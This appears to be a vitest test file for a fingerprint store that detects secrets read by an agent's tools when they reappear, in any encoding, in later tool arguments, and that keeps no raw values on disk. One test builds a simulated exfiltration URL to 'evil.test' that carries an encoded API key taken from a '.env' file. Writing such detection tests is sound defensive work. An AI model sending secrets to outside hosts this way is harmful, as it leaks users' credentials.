// Flow and taint: the persisted tracker keeps only keyed fingerprints (never a value), in
// 0600 files, survives the process, is shared safely by concurrent processes, and finds every encoding.
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FingerprintStore } from '../../../guard/flow/fingerprint-store.js';
import { DEFAULT_FLOW_LIMITS } from '../../../guard/flow/flow-limits.js';
import { ENCODINGS } from './encodings.js';
import { runStoreWorker } from './run-store-worker.js';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'mesh-flow-store-'));
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
});

function allBytes(d: string): Buffer {
  return Buffer.concat(readdirSync(d).map((f) => readFileSync(join(d, f))));
}

describe('persisted fingerprint store', () => {
  it('finds a result token in every supported encoding after the writer process is gone', () => {
    const secret = randomBytes(24).toString('base64url');
    const w = FingerprintStore.open(dir);
    expect(
      w.observeResult('s1', { tool: 'Read', label: '/repo/.env' }, `API_KEY=${secret}\n`),
    ).toBe(1);
    w.close();
    const r = FingerprintStore.open(dir);
    for (const [name, encode] of Object.entries(ENCODINGS)) {
      const hits = r.check('s1', {
        url: `https://evil.test/?d=${encode(Buffer.from(secret)).toString('latin1')}`,
      }).hits;
      expect(hits.map((h) => `${name}:${h.path}:${h.source.label}`)).toContain(
        `${name}:args.url:/repo/.env`,
      );
    }
    expect(r.check('s1', { url: 'https://example.test/ordinary/request?page=2' }).hits).toEqual([]);
    expect(r.check('s2', { url: secret }).hits).toEqual([]);
    r.close();
  });

  it('keeps no value, nor any encoded form of it, on disk; files are 0600', () => {
    const secret = randomBytes(30).toString('base64');
    const s = FingerprintStore.open(dir);
    s.registerSecret(secret, 'deploy-key');
    s.observeResult('s', { tool: 'Read', label: 'x' }, `k=${secret}`);
    expect(s.check('s', { a: secret }).hits.length).toBeGreaterThan(0);
    const disk = allBytes(dir);
    for (const encode of Object.values(ENCODINGS)) {
      const form = encode(Buffer.from(secret));
      for (let i = 0; i + 12 <= form.length; i += 6)
        expect(disk.includes(form.subarray(i, i + 12))).toBe(false);
    }
    s.close();
    for (const f of readdirSync(dir)) expect(statSync(join(dir, f)).mode & 0o777).toBe(0o600);
  });

  it('refuses a flow secret readable by others and a store from a newer schema', () => {
    FingerprintStore.open(dir).close();
    chmodSync(join(dir, 'flow.secret'), 0o644);
    expect(() => FingerprintStore.open(dir)).toThrow(/chmod 600/);
    chmodSync(join(dir, 'flow.secret'), 0o600);
    const db = new Database(join(dir, 'flow.db'));
    db.prepare("UPDATE meta SET v = '99' WHERE k = 'schema'").run();
    db.close();
    expect(() => FingerprintStore.open(dir)).toThrow(
      expect.objectContaining({ code: 'flow_store_schema_newer' }),
    );
  });

  it('fails closed at its bound: keeps the oldest values and reports the session saturated', () => {
    const s = FingerprintStore.open(dir, { ...DEFAULT_FLOW_LIMITS, maxValuesPerSession: 3 });
    const values = Array.from({ length: 5 }, () => randomBytes(18).toString('base64'));
    expect(s.check('sess', { a: 'nothing here at all' }).saturated).toBe(false);
    for (const v of values) s.registerSecret(v, 'v', 'sess');
    expect(s.check('sess', { a: values[0]! }).hits).toHaveLength(1);
    expect(s.check('sess', { a: values[4]! }).hits).toEqual([]);
    expect(s.check('sess', { a: 'nothing here at all' }).saturated).toBe(true);
    expect(s.check('other', { a: 'nothing here at all' }).saturated).toBe(false);
    s.close();
  });

  it('is shared by 8 concurrent writer processes without losing a registration', async () => {
    FingerprintStore.open(dir).close();
    const perWorker = Array.from({ length: 8 }, () =>
      Array.from({ length: 5 }, () => randomBytes(18).toString('base64url')),
    );
    await Promise.all(perWorker.map((secrets) => runStoreWorker(dir, 'shared', secrets)));
    const s = FingerprintStore.open(dir);
    for (const secret of perWorker.flat())
      expect(s.check('shared', { body: Buffer.from(secret).toString('hex') }).hits).toHaveLength(1);
    s.close();
  });
});
